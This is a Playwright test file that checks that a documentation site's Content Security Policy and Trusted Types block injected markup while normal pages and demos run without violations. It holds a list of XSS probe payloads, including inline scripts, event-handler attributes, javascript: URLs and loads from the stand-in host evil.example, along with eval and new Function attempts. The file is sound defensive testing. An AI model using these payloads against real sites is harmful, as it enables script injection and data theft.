import type { Page } from '@playwright/test';
import { startNginx, type Nginx } from '../site/harness/startNginx';
import { followHref, waitForRuntime, waitForIdle } from './fixtures/page';
import { openMenuEntry } from './demos/demoMenu';
import { expect, FULL, full, test as base } from './fixtures/test';

const PAGE = '/material-ui/react-button/';
/** One page of each kind, and of each language. */
const KINDS = [
  '/',
  PAGE,
  '/material-ui/components/',
  '/material-ui/api/button/',
  '/versions/',
  '/x/react-data-grid/',
  '/joy-ui/react-select/',
  '/experiments/docs/demos/',
  '/zh/material-ui/react-button/',
  '/ar/material-ui/react-button/',
  '/no/such/page/',
];

const GATE_KIND = '/ar/material-ui/react-button/';

interface Watched {
  readonly page: Page;
  /** Violations of the security policy, one line each. */
  readonly refused: string[];
}

const test = base.extend<{ readonly watched: Watched }, { readonly nginx: Nginx }>({
  nginx: [
    async ({}, use) => {
      const nginx = await startNginx();
      await use(nginx);
      await nginx.stop();
    },
    { scope: 'worker' },
  ],
  watched: async ({ readers }, use) => {
    const context = await readers.open();
    const page = await context.newPage();
    const refused: string[] = [];
    await page.exposeFunction('noteRefusal', (text: string) => refused.push(text));
    await page.addInitScript(() => {
      document.addEventListener('securitypolicyviolation', (event) => {
        const note = (window as unknown as { noteRefusal: (text: string) => void }).noteRefusal;
        note(`${event.effectiveDirective} ${event.blockedURI} ${event.sample}`);
      });
    });
    await use({ page, refused });
  },
});

test.describe('under the policy that nginx sends', () => {
  for (const path of KINDS)
    test(
      `${path} runs whole, its demos included, and nothing is refused`,
      full(path !== GATE_KIND),
      async ({ nginx, watched }) => {
        const { page, refused } = watched;
        await page.goto(nginx.origin + path);
        await waitForRuntime(page);
        for (const demo of await page.locator('[data-demo]').all()) {
          await demo.scrollIntoViewIfNeeded();
          // A playground waits for a touch, and answers one once it is drawn.
          await expect(async () => {
            await demo.dispatchEvent('pointerdown');
            await expect(demo).toHaveAttribute('data-live', { timeout: 1000 });
          }).toPass();
        }
        await expect(page.locator('[data-demo]:not([data-live])')).toHaveCount(0);
        // Work of a demo right after it was mounted.
        await waitForIdle(page);
        expect(refused).toEqual([]);
      },
    );

  test('links between pages of every kind cause no policy violation', FULL, async ({ nginx, watched }) => {
    const { page, refused } = watched;
    await page.goto(`${nginx.origin}/`);
    await waitForRuntime(page);
    for (const path of [...KINDS.slice(1, 9), '/']) {
      await followHref(page, path);
      await page.locator('main h1').waitFor();
      await waitForIdle(page);
    }
    expect(refused).toEqual([]);
  });

  test('sidebar, search, code and editing work, and nothing is refused', async ({ nginx, watched }) => {
    const { page, refused } = watched;
    await page.goto(nginx.origin + PAGE);
    await waitForRuntime(page);
    await page.locator('[data-group="/material-ui/customization"] > div > button').click();
    await page.locator('#_sidebar a[href="/material-ui/customization/dark-mode/"]').waitFor();
    await page.locator('[data-opens="search"]').first().click();
    await page.locator('#_search .DocSearch-Input').fill('dialog');
    await page.locator('#_search .DocSearch-Hit a').first().waitFor();
    await page.keyboard.press('Escape');
    const demo = page.locator('section[aria-label]:not([data-playground])').first();
    await demo.getByRole('button', { name: 'Show code', exact: true }).click();
    await (await openMenuEntry(demo, 'Show JavaScript')).click();
    await demo.locator('[data-code-block][data-open] pre:visible', { hasText: 'export default' }).waitFor();
    await demo.getByRole('button', { name: 'Edit', exact: true }).click();
    const editor = demo.locator('.pce-textarea');
    await editor.waitFor({ state: 'attached' });
    await editor.fill(
      "export default () => <button onClick={() => { throw new Error('boom'); }}>Press</button>;",
    );
    await page.frameLocator('iframe[sandbox]').locator('button', { hasText: 'Press' }).click();
    await demo.locator('[role="status"]', { hasText: 'boom' }).waitFor();
    expect(refused).toEqual([]);
  });

  test('dialogs and menus of demos open without a policy violation', FULL, async ({ nginx, watched }) => {
    const { page, refused } = watched;
    await page.goto(`${nginx.origin}/material-ui/react-dialog/`);
    await waitForRuntime(page);
    const demo = page.locator('[data-demo="AlertDialog"]');
    await demo.scrollIntoViewIfNeeded();
    await page.locator('[data-demo="AlertDialog"][data-live]').waitFor();
    await demo.locator('button').first().click();
    await page.locator('.MuiDialog-root').first().waitFor();
    expect(refused).toEqual([]);
  });
});

/**
 * Markup that an attacker might inject into a page's text; each sets `pwned` or sends a request to another
 * host if it works.
 */
const PROBES: readonly string[] = [
  '<script>window.pwned=1</script>',
  '<script type="module">window.pwned=1</script>',
  '<img src="/no.png" onerror="window.pwned=1">',
  '<svg onload="window.pwned=1"></svg>',
  '<body onpageshow="window.pwned=1">',
  '<details open ontoggle="window.pwned=1"></details>',
  '<input autofocus onfocus="window.pwned=1">',
  '<video><source onerror="window.pwned=1" src="/no"></video>',
  '<a id="probe" href="javascript:window.pwned=1">x</a>',
  '<iframe src="javascript:parent.pwned=1"></iframe>',
  '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>',
  '<iframe src="data:text/html,<script>parent.postMessage(1)</script>"></iframe>',
  '<script src="https://evil.example/x.js"></script>',
  '<script src="data:text/javascript,window.pwned=1"></script>',
  '<script src="//evil.example/x.js"></script>',
  '<object data="https://evil.example/x.swf"></object>',
  '<embed src="https://evil.example/x.swf">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<style>body{background:url(https://evil.example/x)}</style>',
  '<base href="https://evil.example/">',
  '<form id="probe-form" action="https://evil.example/"><input name="a"></form>',
  '<img src="https://evil.example/pixel.gif">',
  '<iframe src="https://evil.example/"></iframe>',
  '<audio src="https://evil.example/a.mp3" preload="auto"></audio>',
];

const GATE_PROBE = PROBES[0];

test.describe('what is injected into a page', () => {
  for (const probe of PROBES)
    test(`is refused: ${probe}`, full(probe !== GATE_PROBE), async ({ nginx, watched }) => {
      const { page, refused } = watched;
      const asked: string[] = [];
      await page.route('https://evil.example/**', async (route) => {
        asked.push(route.request().url());
        await route.fulfill({ body: 'window.pwned=1', contentType: 'text/javascript' });
      });
      await page.route(nginx.origin + PAGE, async (route) => {
        const response = await route.fetch();
        const body = (await response.text()).replace('<div id="__next"', `${probe}<div id="__next"`);
        await route.fulfill({ response, body });
      });
      await page.goto(nginx.origin + PAGE);
      await page.evaluate(() => {
        document.querySelector<HTMLElement>('#probe')?.click();
        document.querySelector<HTMLFormElement>('#probe-form')?.submit();
      });
      await expect.poll(() => refused.length).toBeGreaterThan(0);
      await waitForIdle(page);
      const look = () =>
        page.evaluate(() => ({ pwned: 'pwned' in window, base: new URL(document.baseURI).origin }));
      await expect.poll(look).toEqual({ pwned: false, base: nginx.origin });
      expect(asked).toEqual([]);
    });

  test('is not written as HTML, and loads no script of another host', async ({ nginx, watched }) => {
    const { page, refused } = watched;
    await page.goto(nginx.origin + PAGE);
    await waitForRuntime(page);
    await page.evaluate(() => {
      const attempts = [
        () => (document.body.innerHTML += '<img src="/no.png" onerror="window.pwned=1">'),
        () => document.body.insertAdjacentHTML('beforeend', '<b>text</b>'),
        () => Object.assign(document.createElement('script'), { src: 'https://evil.example/x.js' }),
        () => Object.assign(document.createElement('script'), { text: 'window.pwned=1' }),
        () => new Worker('https://evil.example/x.js'),
      ];
      for (const attempt of attempts) {
        try {
          attempt();
        } catch {
          continue;
        }
        throw new Error(`passed: ${attempt}`);
      }
    });
    // Once for each policy: that of the header and that of the document.
    await expect
      .poll(() => refused.map((line) => line.split(' ')[0]))
      .toEqual(Array(10).fill('require-trusted-types-for'));
    // What the site itself does later is not refused.
    await page.evaluate(() =>
      Object.assign(document.createElement('div'), { innerHTML: '<span class="x">text</span>' }),
    );
  });

  test('cannot make code from text, even from a script of the site', FULL, async ({ nginx, watched }) => {
    const { page, refused } = watched;
    await page.route('**/probe.js', (route) =>
      route.fulfill({
        contentType: 'text/javascript',
        body: 'window.tried=0;for(const f of [()=>eval("window.pwned=1"),()=>new Function("window.pwned=1")(),()=>setTimeout("window.pwned=1")]){try{f()}catch{}window.tried++}',
      }),
    );
    await page.goto(nginx.origin + PAGE);
    await waitForRuntime(page);
    await page.evaluate(() => {
      const script = document.createElement('script');
      script.src = '/probe.js';
      document.head.append(script);
    });
    await page.waitForFunction(() => 'tried' in window && window.tried === 3);
    // Once for each policy: that of the header and that of the document.
    await expect.poll(() => refused.length).toBe(6);
    await waitForIdle(page);
    await expect.poll(() => page.evaluate(() => 'pwned' in window)).toBe(false);
    expect(refused.length).toBe(6);
  });
});

test('in a frame of another origin, the settings open in a tab of their own', FULL, async ({ site }) => {
  site.intercept = ({ url }, response) => {
    if (url !== '/foreign/') return false;
    response.end(`<iframe src="${site.origin}${PAGE}" width="900" height="700"></iframe>`);
    return true;
  };
  const context = await site.readers.open();
  const page = await context.newPage();
  await page.goto(`${site.origin.replace('127.0.0.1', 'localhost')}/foreign/`);
  const framed = page.frameLocator('iframe');
  await framed.locator('footer [data-opens="settings"]').click();
  await expect.poll(() => context.pages().map((tab) => tab.url())).toContain(site.origin + PAGE);
  await expect(framed.locator('dialog')).toHaveCount(0);
});
